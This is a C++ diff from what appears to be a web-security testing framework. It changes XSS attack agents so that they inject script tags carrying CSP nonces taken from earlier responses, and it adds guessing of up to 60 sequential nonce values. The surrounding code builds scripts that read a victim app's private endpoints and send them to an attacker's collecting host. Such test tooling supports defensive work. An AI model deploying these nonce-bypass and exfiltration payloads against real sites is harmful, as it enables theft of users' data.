@@ -4,13 +4,18 @@
 //   xss-nonce     a script with the nonce of an earlier answer (a nonce is for one)
 //   xss-form      a button or form that sends the page's own fields away (CSP form-action)
 //   xss-dangling  an open quote or text area that swallows what follows (CSP img-src, form-action)
+#include <algorithm>
+
 #include "core/attack/every_agent.h"
 #include "core/attack/page_script.h"
 #include "core/attack/stored_text.h"
 #include "core/attack/tags.h"
+#include "core/base/ascii.h"
 
 namespace parapet::attack {
 namespace {
+
+constexpr long kMostGuesses = 60;  // requests between the attacker's look and the victim's page
 
 // The attacker's collecting address, or "" when he has no host.
 std::string collecting_address(Target& target) {
@@ -18,15 +23,6 @@ std::string collecting_address(Target& target) {
     if (evil == nullptr || target.victim() == nullptr) return {};
     evil->answer(evil->folder() + "c", {.status = 204});
     return address_on(*evil, "c");
-}
-
-std::string taking_script(Target& target, std::string const& address) {
-    std::string script;
-    for (Endpoint const* each : private_endpoints(target))
-        script += fetch_and_send(app_origin(target) + each->path, address);
-    return script + send_script(Channel::Fetch, address, kAllInReach) +
-           send_script(Channel::Image, address, kAllInReach) +
-           send_script(Channel::Navigation, address, kAllInReach);
 }
 
 class XssBase final : public Agent {
@@ -67,10 +63,25 @@ class XssNonce final : public Agent {
                     if (nonces.empty() || nonces.back() != *nonce) nonces.push_back(*nonce);
         target.note(std::to_string(nonces.size()) + " nonces are seen in answers.");
         if (nonces.empty()) return;
-        for (std::string const& nonce : {nonces.front(), nonces.back()})
-            text.leave("<script nonce=" + in_quotes(nonce) + ">" + taking_script(target, address) +
-                       "</script>");
+        std::string const script = taking_script(target, address);
+        std::string scripts;
+        for (std::string const& nonce : worth_trying(nonces))
+            scripts += "<script nonce=" + in_quotes(nonce) + ">" + script + "</script>";
+        text.leave(scripts);
         victim_reads_and_loot_is_used(target);
+    }
+
+    // Those that were seen; and where they are numbers that count up, the next ones.
+    static std::vector<std::string> worth_trying(std::vector<std::string> const& seen) {
+        std::vector<std::string> all{seen.front()};
+        if (seen.back() != seen.front()) all.push_back(seen.back());
+        bool const are_numbers = std::all_of(seen.begin(), seen.end(), [](std::string const& each) {
+            return each.size() < 10 && std::all_of(each.begin(), each.end(), ascii::is_digit);
+        });
+        long const last = are_numbers ? std::atol(seen.back().c_str()) : 0;
+        for (long next = 1; are_numbers && next <= kMostGuesses; ++next)
+            all.push_back(std::to_string(last + next));
+        return all;
     }
 };
 
